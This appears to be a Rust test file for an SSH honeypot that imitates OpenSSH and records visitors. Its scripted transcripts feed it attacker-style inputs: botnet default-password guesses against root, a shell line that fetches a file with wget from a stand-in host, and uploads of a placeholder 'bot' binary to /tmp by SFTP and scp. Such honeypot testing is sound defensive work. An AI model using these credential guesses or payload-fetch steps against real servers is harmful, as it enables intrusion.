use kizashi_event::Detail;

use super::client::{Client, Offer, text};
use super::wire::{Reader, Write as _, message};
use super::{RsaHostKey, TRAP};
use crate::contract;
use crate::{Identity, LoginSettings, WebServer};

/// A key that is used nowhere else, for tests alone.
const RSA_KEY: &str = include_str!("test-rsa-key.txt");

pub(super) fn identity() -> Identity {
    let settings =
        LoginSettings { accept: vec!["*:letmein9".parse().unwrap()], ..LoginSettings::default() };
    Identity::draw([7; 32])
        .with_rsa_host_key(RsaHostKey::from_text(RSA_KEY).unwrap())
        .with_logins(settings)
}

fn commands(client: &Client) -> Vec<&str> {
    let lines = client.seen.iter().filter_map(|seen| match &seen.detail {
        Detail::Command { line, .. } => Some(line.raw()),
        _ => None,
    });
    lines.collect()
}

/// The visitor's bytes of a transcript, written anew from what a client does. The server's secrets are drawn from the seed of the
/// transcripts' identity, so that the client's bytes stay right under keys.
fn scripted(name: &str, title: &str, act: impl FnOnce(&mut Client)) {
    let mut client = Client::connect(
        Identity::draw([7; 32]).with_web_server(WebServer::NginxDebian12),
        Offer::default(),
    );
    act(&mut client);
    contract::scripted(&TRAP, name, title, &client.sent);
}

/// Logs in as a guesser does: what a neglected server takes at the third try.
fn guess(client: &mut Client) {
    client.begin();
    for password in [&b"xc3511"[..], b"vizxv", b"admin"] {
        client.password(b"root", password);
        if password == b"admin" {
            client.is_in();
        } else {
            assert_eq!(client.next()[0], message::USERAUTH_FAILURE);
        }
    }
}

fn write_scripts() {
    guesser_runs_a_command();
    person_on_a_terminal();
    loader_brings_files();
}

fn guesser_runs_a_command() {
    scripted(
        "guesser-runs-a-command.txt",
        "A guesser of Go's library: three passwords, then a command that writes a file.",
        |client| {
            guess(client);
            let channel = client.open_session();
            client.request(channel, "exec", &text(b"uname -a; echo harmless > /tmp/.x; ./nothing"));
            client.all();
        },
    );
}

fn person_on_a_terminal() {
    scripted(
        "shell-on-a-terminal.txt",
        "A person: terminal, environment, two lines, a new size, exit.",
        |client| {
            guess(client);
            let channel = client.open_session();
            let mut rest = text(b"xterm-256color");
            [120, 30, 0, 0].into_iter().for_each(|number| rest.put_u32(number));
            rest.put_string([53_u8, 0, 0, 0, 1, 0]);
            client.request(channel, "pty-req", &rest);
            client.request(channel, "env", &[text(b"LC_ALL"), text(b"C.UTF-8")].concat());
            client.request(channel, "shell", b"");
            client.data(channel, b"whoami\r");
            let mut size = Vec::new();
            [100, 40, 0, 0].into_iter().for_each(|number| size.put_u32(number));
            client.request(channel, "window-change", &size);
            client.data(channel, b"wx\x7fget http://198.51.100.9/x\rexit\r");
            client.all();
        },
    );
}

fn loader_brings_files() {
    scripted(
        "files-and-forwards.txt",
        "A loader: a file by SFTP and one by scp, then mail and web by a forward.",
        |client| {
            guess(client);
            let channel = client.open_session();
            client.request(channel, "subsystem", &text(b"sftp"));
            let message = |kind: u8, body: &[u8]| {
                let mut framed = Vec::new();
                framed.put_string([&[kind][..], body].concat());
                framed
            };
            let open =
                [&[0, 0, 0, 1][..], &text(b"/tmp/bot"), &[0, 0, 0, 0x1a, 0, 0, 0, 0]].concat();
            let write =
                [&[0, 0, 0, 2][..], &text(&[0; 4]), &[0; 8], &text(b"\x7fELF harmless")].concat();
            let close = [&[0, 0, 0, 3][..], &text(&[0; 4])].concat();
            let frames = [
                message(1, &[0, 0, 0, 3]),
                message(3, &open),
                message(6, &write),
                message(4, &close),
            ];
            client.data(channel, &frames.concat());
            let channel = client.open_session();
            client.request(channel, "exec", &text(b"scp -t /tmp/"));
            client.data(channel, b"C0755 8 second\nharmless\0");
            for (host, port, data) in [
                (
                    &b"mx.example.com"[..],
                    25,
                    &b"EHLO x\r\nMAIL FROM:<a@example.com>\r\nQUIT\r\n"[..],
                ),
                (
                    b"www.example.com",
                    80,
                    b"GET / HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n",
                ),
            ] {
                let channel = client.forward(host, port);
                client.data(channel, data);
            }
            let listen = [
                &[message::GLOBAL_REQUEST][..],
                &text(b"tcpip-forward"),
                &[1],
                &text(b"0.0.0.0"),
                &[0; 4],
            ];
            client.send(&listen.concat());
            client.all();
        },
    );
}

#[test]
fn every_transcript_holds_however_the_bytes_are_cut() {
    write_scripts();
    contract::replay_all(&TRAP);
}

#[test]
fn the_trap_keeps_the_contract() {
    contract::holds(&TRAP);
}

#[test]
fn every_exchange_and_every_host_key_is_agreed_on_and_signed() {
    for exchange in [
        "curve25519-sha256",
        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
        "diffie-hellman-group-exchange-sha256",
        "diffie-hellman-group16-sha512",
        "diffie-hellman-group18-sha512",
        "diffie-hellman-group14-sha256",
    ] {
        Client::ready(identity(), Offer { exchange, ..Offer::default() });
    }
    for host_key in
        ["rsa-sha2-512", "rsa-sha2-256", "ssh-rsa", "ecdsa-sha2-nistp256", "ssh-ed25519"]
    {
        let identity = identity().with_web_server(WebServer::NginxUbuntu20);
        Client::ready(identity, Offer { host_key, ..Offer::default() });
    }
}

#[test]
fn every_cipher_with_every_mac_carries_a_login_and_a_new_exchange() {
    let ciphers = super::persona::CIPHERS.split(',');
    for cipher in ciphers {
        for mac in super::persona::MACS.split(',') {
            for compression in ["none", "zlib@openssh.com"] {
                let offer = Offer { cipher, mac, compression, ..Offer::default() };
                let mut client = Client::logged_in(identity(), offer);
                client.exchange_keys();
                let channel = client.open_session();
                client.request(channel, "exec", &text(b"echo one; echo two"));
                let said = client.all().concat();
                assert!(said.windows(8).any(|window| window == b"one\ntwo\n"), "{cipher} {mac}");
                assert_eq!(commands(&client), ["echo one; echo two"]);
            }
        }
    }
}

#[test]
fn a_command_is_answered_in_the_order_of_openssh() {
    let mut client = Client::logged_in(identity(), Offer::default());
    let channel = client.open_session();
    client.request(channel, "exec", &text(b"false"));
    let numbers: Vec<u8> = client.all().iter().map(|payload| payload[0]).collect();
    assert_eq!(
        numbers,
        [
            message::CHANNEL_WINDOW_ADJUST,
            message::CHANNEL_SUCCESS,
            message::CHANNEL_REQUEST,
            message::CHANNEL_EOF,
            message::CHANNEL_CLOSE
        ]
    );
}

#[test]
fn six_wrong_passwords_end_it_with_its_words() {
    let mut client = Client::ready(identity(), Offer::default());
    for _ in 0..5 {
        client.password(b"root", b"no");
        assert_eq!(client.next()[0], message::USERAUTH_FAILURE);
    }
    client.password(b"root", b"no");
    let last = client.next();
    let mut reader = Reader::new(&last);
    assert_eq!((reader.byte(), reader.u32()), (Some(message::DISCONNECT), Some(2)));
    assert_eq!(reader.string(), Some(&b"Too many authentication failures"[..]));
    assert!(client.rest().1);
}

#[test]
fn a_shell_reads_lines_from_a_terminal_and_without_one() {
    for on_terminal in [true, false] {
        let mut client = Client::logged_in(identity(), Offer::default());
        let channel = client.open_session();
        if on_terminal {
            let mut rest = text(b"xterm");
            [80, 24, 0, 0].into_iter().for_each(|number| rest.put_u32(number));
            rest.put_string([0_u8]);
            client.request(channel, "pty-req", &rest);
        }
        client.request(channel, "shell", b"");
        client.data(channel, b"echo first\ne");
        client.data(channel, b"cho 'sec'ond\nexit\n");
        let said = client.all().concat();
        let expected: &[u8] = if on_terminal { b"second\r\n" } else { b"second\n" };
        assert!(said.windows(expected.len()).any(|window| window == expected));
        assert_eq!(commands(&client), ["echo first", "echo 'sec'ond", "exit"]);
        client.end();
        let recorded =
            client.seen.iter().any(|seen| matches!(seen.detail, Detail::Recording { .. }));
        assert!(recorded);
    }
}

#[test]
fn a_visitor_who_takes_little_gets_all_in_little() {
    let mut client = Client::logged_in(identity(), Offer::default());
    let mut open = vec![message::CHANNEL_OPEN];
    open.put_string("session");
    [7, 5, 3].into_iter().for_each(|number| open.put_u32(number));
    client.send(&open);
    client.next();
    client.request(0, "exec", &text(b"echo 0123456789"));
    let mut said = Vec::new();
    for _ in 0..8 {
        for payload in client.all() {
            if payload[0] == message::CHANNEL_DATA {
                assert!(payload.len() <= 9 + 3);
                said.extend_from_slice(&payload[9..]);
            }
        }
        let mut adjust = vec![message::CHANNEL_WINDOW_ADJUST];
        [0, 2].into_iter().for_each(|number| adjust.put_u32(number));
        client.send(&adjust);
    }
    assert_eq!(said, b"0123456789\n");
}
